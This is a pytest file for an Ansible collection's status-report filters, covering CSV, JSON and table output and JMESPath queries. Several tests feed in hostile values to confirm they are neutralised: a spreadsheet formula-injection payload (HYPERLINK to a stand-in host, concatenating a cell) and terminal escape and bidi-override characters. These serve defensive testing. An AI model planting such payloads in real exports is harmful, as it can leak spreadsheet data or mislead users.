# Copyright: (c) 2026, restaking.avs contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Tables, CSV, JSON and queries: what reaches a terminal, a spreadsheet and a program."""

from __future__ import annotations

import csv
import io
import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest
from ansible.errors import AnsibleFilterError
from ansible_collections.restaking.avs.plugins.filter.status_report import FilterModule, status_report
from ansible_collections.restaking.avs.plugins.filter.status_table import status_table
from ansible_collections.restaking.avs.plugins.module_utils.common.errors import InputError
from ansible_collections.restaking.avs.plugins.plugin_utils.reports.file import place
from ansible_collections.restaking.avs.plugins.plugin_utils.reports.forms import Sheet, rendered
from ansible_collections.restaking.avs.plugins.plugin_utils.reports.text import csv_text, text_table

COMMIT = "0123456789abcdef" * 2 + "01234567"
RESULTS: dict[str, Any] = {
    "h2": {"instances": [], "findings": []},
    "h1": {
        "instances": [
            {"id": "b-avs-2", "version": "v1.0.0", "commit": COMMIT, "profile": "p", "state": "started",
             "health": {"status": "unhealthy", "detail": "node, the \"first\", is exited"}, "images": {"node": "r/x@sha256:" + "a" * 64},
             "keystores": {"bls": {"fingerprint": "sha256:1111"}}},
            {"id": "a-avs-1", "state": "absent", "health": {"status": "unknown", "detail": "not installed"}},
        ],
        "findings": [{"id": "OPS-010", "message": "m"}],
    },
    "h3": {"unreachable": True, "msg": "no route"},
}  # fmt: skip


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", " =", "\r\n@", "\uff1d", "\u00a0="])
def test_no_cell_is_a_formula(start: str) -> None:
    cell = f'{start}HYPERLINK("http://x"&A1)'
    (shown,) = rows(csv_text(["c"], [[cell]]))[1]
    assert shown.startswith("'") and "HYPERLINK" in shown


@pytest.mark.parametrize(("value", "shown"), [(-5, "-5"), ("-1.5", "-1.5"), ("+3", "+3"), (None, ""), (True, "true"), ("v1.0.0", "v1.0.0")])
def test_what_is_no_formula_stays(value: Any, shown: str) -> None:
    assert rows(csv_text(["c", "d"], [[value, "x"]]))[1] == [shown, "x"]


def test_a_cell_is_one_cell_whatever_it_holds() -> None:
    cells = ["a,b;c\td", 'say "hi"', "one\ntwo", "x\x1b[2J\u202e"]
    text = csv_text(["1", "2", "3", "4"], [cells])
    assert len(text.splitlines()) == 2
    assert rows(text)[1] == ["a,b;c d", 'say "hi"', "one two", "x\\x1b[2J\\u202e"]
    # A separator of another spreadsheet divides nothing: every cell is in quotes.
    assert text.splitlines()[1].startswith('"a,b;c d","')


def test_a_table_keeps_its_columns() -> None:
    lines = text_table(["one", "two", "three"], [["a", "", "x y"], ["long\nword", None, "\x9b"]]).splitlines()
    assert lines == ["one        two  three", "a          -    x\u00a0y", "long word  -    \\x9b"]


def test_csv_of_the_fleet_cuts_nothing() -> None:
    found = rows(status_report(RESULTS, "csv"))
    assert found[0] == ["host", "instance", "version", "commit", "profile", "state", "health", "image", "keys", "detail"]
    assert [row[:2] for row in found[1:]] == [["h1", "a-avs-1"], ["h1", "b-avs-2"]]
    assert found[2][3] == COMMIT and found[2][7] == "node=r/x@sha256:" + "a" * 64 and found[2][9] == 'node, the "first", is exited'


def test_what_is_off_with_backups_stands_behind_the_detail() -> None:
    one = {"id": "a-avs-1", "health": {"status": "healthy", "detail": "runs"}, "backup": {"problem": "its last backup failed", "age": 3}}
    for backup, detail in ((one["backup"], "runs; its last backup failed"), ({"problem": None}, "runs"), (None, "runs"), ("odd", "runs")):
        assert rows(status_report({"h": {"instances": [{**one, "backup": backup}]}}, "csv"))[1][9] == detail


def test_json_of_the_fleet_holds_everything() -> None:
    found = json.loads(status_report(RESULTS, "json"))
    assert [(item["host"], item["id"]) for item in found["instances"]] == [("h1", "a-avs-1"), ("h1", "b-avs-2")]
    assert found["instances"][1]["health"] == RESULTS["h1"]["instances"][0]["health"]
    assert found["hosts"] == [
        {"host": "h1", "answered": True, "message": "", "findings": [{"id": "OPS-010", "message": "m"}]},
        {"host": "h2", "answered": True, "message": "", "findings": []},
        {"host": "h3", "answered": False, "message": "no route", "findings": []},
    ]


def test_json_is_harmless_on_a_terminal() -> None:
    evil = {"h": {"instances": [{"id": "a-1", "health": {"status": "x", "detail": "\x1b[2J\u202e"}}]}}
    text = status_report(evil, "json")
    assert text.isascii() and "\x1b" not in text and json.loads(text)["instances"][0]["health"]["detail"] == "\x1b[2J\u202e"


def test_one_that_is_held_is_called_so() -> None:
    held = {
        "h": {
            "instances": [
                {"id": "a-1", "state": "stopped", "hold": {"since": "s", "by": "b", "reason": "r"}},
                {"id": "a-2", "state": "stopped", "hold": None},
            ]
        }
    }
    assert [row[5] for row in rows(status_report(held, "csv"))[1:]] == ["held", "stopped"]


def test_the_table_is_the_table() -> None:
    assert status_report(RESULTS) == status_table(RESULTS)


@pytest.mark.parametrize(
    ("query", "lines"),
    [
        ("instances[?health.status=='unhealthy'].{host: host, id: id}", ["host  id", "h1    b-avs-2"]),
        ("instances[].[id, version]", ["1        2", "a-avs-1  -", "b-avs-2  v1.0.0"]),
        ("instances[].id", ["value", "a-avs-1", "b-avs-2"]),
        ("length(instances)", ["value", "2"]),
        ("hosts[?!answered].{host: host, why: message}", ["host  why", "h3    no\u00a0route"]),
    ],
)
def test_queries_as_tables(query: str, lines: list[str]) -> None:
    assert status_report(RESULTS, "table", query).splitlines() == lines
    assert [row[0] for row in rows(status_report(RESULTS, "csv", query))] == [line.split()[0] for line in lines]


@pytest.mark.parametrize("query", ["instances[?id=='nobody']", "nothing"])
def test_a_query_that_finds_nothing_says_so(query: str) -> None:
    assert status_report(RESULTS, "table", query) == f"the query {query!r} finds nothing"
    assert rows(status_report(RESULTS, "csv", query)) == [["value"]]


def test_a_query_of_tagged_values() -> None:
    """Ansible hands over subclasses of the builtins, whose type jmespath does not know."""

    class Tagged(str):
        pass

    results = {Tagged("h"): {"instances": [{"id": Tagged("a-1"), "version": Tagged("v1")}]}}
    assert json.loads(status_report(results, "json", "instances[?starts_with(id, 'a')].version")) == ["v1"]


@pytest.mark.parametrize(
    ("form", "query", "words"),
    [
        ("yaml", "", "use one of table, json, csv"),
        ("table", "instances[?", "is no JMESPath query"),
        ("json", "length(`1`)", "cannot be answered"),
        ("json", "nobody(@)", "cannot be answered"),
        ("csv", "[`1`, instances]", "of several kinds"),
    ],
)
def test_what_cannot_be_shown_is_said(form: str, query: str, words: str) -> None:
    with pytest.raises(AnsibleFilterError, match=words):
        status_report(RESULTS, form, query)


def test_form_and_query_are_checked_alone() -> None:
    assert FilterModule().filters()["status_report"](None, "csv", "instances[0].id | length(@)") == ""
    for form, query in (("yaml", ""), ("json", "a[")):
        with pytest.raises(AnsibleFilterError):
            status_report(None, form, query)


def test_a_missing_library_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "jmespath", None)
    assert status_report(RESULTS, "csv")
    with pytest.raises(AnsibleFilterError, match="pip install jmespath"):
        status_report(RESULTS, "json", "hosts")


def test_a_sheet_of_its_own() -> None:
    assert rendered({"a": 1}, Sheet(["x"], [["y"]])) == "x\ny" and json.loads(rendered({"a": 1}, Sheet([], []), form="json")) == {"a": 1}


def test_a_file_is_the_old_or_the_new_one(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    path.write_text("old")
    path.chmod(0o644)
    before = os.open(path, os.O_RDONLY)
    assert place(str(path), "new") and not place(str(path), "new")
    assert path.read_text() == "new" and path.stat().st_mode & 0o777 == 0o600
    # Who had it open still reads the old one, and nothing else is left.
    assert os.read(before, 10) == b"old" and [item.name for item in tmp_path.iterdir()] == ["report.csv"]
    os.close(before)


def test_a_place_that_is_none(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="is a folder"):
        place(str(tmp_path), "x")
    with pytest.raises(InputError, match="No such file or directory"):
        place(str(tmp_path / "nowhere" / "x"), "x")
    assert list(tmp_path.iterdir()) == []
